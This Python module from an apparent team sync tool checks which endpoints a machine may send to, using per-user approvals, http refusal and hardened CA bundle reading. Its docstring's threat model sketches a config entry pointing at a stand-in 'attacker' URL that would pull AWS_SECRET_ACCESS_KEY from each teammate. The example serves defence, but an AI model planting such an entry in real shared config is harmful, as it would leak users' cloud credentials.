"""Which endpoints this machine may send to: trust comes from the person, never from the shared folder.

huddle.toml sits in a folder any teammate can edit. Were its word enough, a
teammate could add ``url = "http://attacker"`` with ``token_env =
"AWS_SECRET_ACCESS_KEY"`` and every teammate's next sync would hand that
secret over. So an endpoint is used only once this person has approved it on
this machine (``huddle trust``, kept in their own config.toml), and the
approval is bound to the URL, the format, the token source and the CA bundle:
a change to any of them in huddle.toml withdraws it until it is given again.

Plain ``http://`` carries the token and the check-ins readable by anyone on
the way, so it is refused for any host but loopback (127.0.0.0/8, ::1,
localhost) unless the person allows that host (``huddle trust --allow-http``).
"""

from __future__ import annotations

import hashlib
import os
import stat
from collections.abc import Iterable
from pathlib import Path
from typing import NamedTuple

from huddle_tui.config.team import Endpoint
from huddle_tui.config.user import Approval, UserConfig
from huddle_tui.errors import ConfigError
from huddle_tui.sync.credentials import endpoint_label, redact_url

NOT_APPROVED = "not approved on this machine"
CA_BUNDLE_MAX = 4 * 1024 * 1024  # a system bundle with every public CA is about 220 KB


class CABundle(NamedTuple):
    """A CA bundle's bytes as read once, and their SHA-256 (lower-case hex)."""

    pem: bytes
    sha256: str


def read_ca_bundle(path: Path) -> CABundle:
    """Read a CA bundle once, as a regular file of bounded size, and hash what was read.

    The path comes from huddle.toml, which any teammate can edit: a FIFO
    would block an open() forever and /dev/zero would never end, so the file
    is opened without blocking, must be a regular file, and is read to a cap.
    ConfigError, naming the file and why, when it cannot be used.
    """
    flags = os.O_RDONLY | getattr(os, "O_NONBLOCK", 0) | getattr(os, "O_CLOEXEC", 0)
    try:
        fd = os.open(path.expanduser(), flags | getattr(os, "O_BINARY", 0))
    except OSError as exc:
        raise _unreadable(path, exc) from None
    try:
        if not stat.S_ISREG(os.fstat(fd).st_mode):
            raise _unreadable(path, "not a regular file")
        chunks, size = [], 0
        while size <= CA_BUNDLE_MAX and (chunk := os.read(fd, 1 << 16)):
            chunks.append(chunk)
            size += len(chunk)
    except OSError as exc:
        raise _unreadable(path, exc) from None
    finally:
        os.close(fd)
    if size > CA_BUNDLE_MAX:
        raise _unreadable(path, f"larger than {CA_BUNDLE_MAX >> 20} MiB")
    pem = b"".join(chunks)
    return CABundle(pem, hashlib.sha256(pem).hexdigest())


def _unreadable(path: Path, why: OSError | str) -> ConfigError:
    """The error for a CA bundle that cannot be used, in words a person can act on."""
    if isinstance(why, FileNotFoundError):
        why = "not found"
    elif isinstance(why, OSError):
        why = why.strerror or type(why).__name__
    return ConfigError(f"the CA bundle {path} cannot be read ({why})")


def _resolved(path: Path | None) -> str | None:
    """A token file or CA bundle as the absolute path it names now (a swapped symlink counts as a change)."""
    if path is None:
        return None
    try:
        return str(path.expanduser().resolve())
    except (OSError, RuntimeError):  # a symlink loop: an unusable path is still a distinct one
        return str(path.expanduser().absolute())


def host_of(url: str) -> str:
    """The lower-cased host name of a URL ("" when it has none or cannot be parsed)."""
    from urllib.parse import urlsplit

    try:
        return (urlsplit(url).hostname or "").rstrip(".")
    except ValueError:
        return ""


def endpoint_name(endpoint: Endpoint) -> str:
    """How `huddle trust` names an endpoint: its `name`, else its host."""
    return endpoint.name or host_of(endpoint.url) or endpoint.url


def approval_for(endpoint: Endpoint) -> Approval:
    """The approval that would cover this endpoint exactly as huddle.toml describes it now."""
    return Approval(name=endpoint_name(endpoint), url=endpoint.url, format=endpoint.format,
                    token_env=endpoint.token_env, token_file=_resolved(endpoint.token_file),
                    ca_bundle=_resolved(endpoint.ca_bundle))


def is_approved(endpoint: Endpoint, approvals: Iterable[Approval]) -> bool:
    """Whether one of this person's approvals covers the endpoint's URL, format and token source."""
    wanted = approval_for(endpoint).binding
    return any(a.binding == wanted for a in approvals)


def is_loopback(host: str) -> bool:
    """127.0.0.0/8, ::1 or localhost: traffic that never leaves this machine."""
    import ipaddress

    host = host.strip("[]").rstrip(".").lower()
    if host == "localhost":
        return True
    try:
        return ipaddress.ip_address(host).is_loopback
    except ValueError:
        return False


def http_refusal(url: str, allow_http: Iterable[str]) -> str | None:
    """Why plain http:// to this URL is refused, or None when it is https, loopback or allowed."""
    if not url.lower().startswith("http://"):
        return None
    host = host_of(url)
    if host and (is_loopback(host) or host in {h.lower() for h in allow_http}):
        return None
    shown = host or "this host"
    return (f"plain http:// to {shown} is refused (the token and check-ins would cross the network "
            f"readable by anyone on the way); use https://, or if that network is trusted, run "
            f"`huddle trust --allow-http {shown}`")


def token_source(endpoint: Endpoint) -> str:
    """Where the endpoint's secret would be read from, in words."""
    what = "token" if endpoint.format == "records" else "webhook URL"
    if endpoint.token_env:
        return f"{what} from ${endpoint.token_env}"
    if endpoint.token_file is not None:
        return f"{what} from file {_resolved(endpoint.token_file)}"
    return "no token" if endpoint.format == "records" else "webhook URL as written in huddle.toml"


def describe(endpoint: Endpoint) -> str:
    """One line for a person deciding: label, URL with its key-like parts hidden, format, token source."""
    return (f"{endpoint_label(endpoint)}: {redact_url(endpoint.url)} ({endpoint.format}, "
            f"{token_source(endpoint)})")


def refusal(endpoint: Endpoint, user: UserConfig) -> str | None:
    """Why nothing may be sent to this endpoint from this machine, or None when it may be used."""
    if not is_approved(endpoint, user.trusted):
        return (f"{NOT_APPROVED}, nothing sent to {redact_url(endpoint.url)} "
                f"({token_source(endpoint)}); run `huddle trust` to review it")
    return http_refusal(endpoint.url, user.allow_http)


def with_approved(user: UserConfig, endpoints: Iterable[Endpoint]) -> UserConfig:
    """The user config with approvals added for these endpoints, as huddle.toml describes them now."""
    trusted = list(user.trusted)
    for endpoint in endpoints:
        approval = approval_for(endpoint)
        if approval.binding not in {a.binding for a in trusted}:
            trusted.append(approval)
    return user._replace(trusted=tuple(trusted))


def matches(endpoint: Endpoint, name: str) -> bool:
    """Whether NAME on the command line means this endpoint: its name, host, label or outbox key."""
    from huddle_tui.sync.outbox import endpoint_key

    return name in {endpoint_name(endpoint), host_of(endpoint.url), endpoint_label(endpoint),
                    endpoint_key(endpoint)}


def trusted_endpoint(user: UserConfig, name: str) -> Endpoint:
    """The records endpoint NAME among this person's own approvals (their config, never the shared folder).

    An org champion may have no team: the approval says the URL and token
    source in full, so it is the endpoint. ConfigError when no approval has
    that name or host.
    """
    found = [a for a in user.trusted if a.format == "records" and name in (a.name, host_of(a.url))]
    if not found:
        known = ", ".join(sorted({a.name for a in user.trusted if a.format == "records"})) or "none"
        raise ConfigError(f"no records endpoint named {name!r} in {user.path} [[trusted_endpoints]] "
                          f"(known: {known}); `huddle trust` approves your team's endpoints")
    a = found[0]
    return Endpoint(url=a.url, format=a.format, token_env=a.token_env, name=a.name,
                    token_file=Path(a.token_file) if a.token_file else None,
                    ca_bundle=Path(a.ca_bundle) if a.ca_bundle else None)
